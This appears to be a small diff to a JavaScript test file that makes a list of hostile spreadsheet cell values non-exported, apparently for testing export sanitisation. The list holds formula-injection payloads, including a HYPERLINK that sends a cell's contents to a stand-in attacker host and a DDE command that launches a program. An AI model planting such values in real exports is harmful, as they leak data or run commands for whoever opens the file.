@@ -15,7 +15,7 @@ import { runCli } from '../helpers.js';
 import { parseXml } from '../xml.js';
 
 /** Values a hostile export could hold in a segment column. */
-export const HOSTILE_VALUES = [
+const HOSTILE_VALUES = [
   '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
   "=cmd|' /C calc'!A0",
   '+1+1',
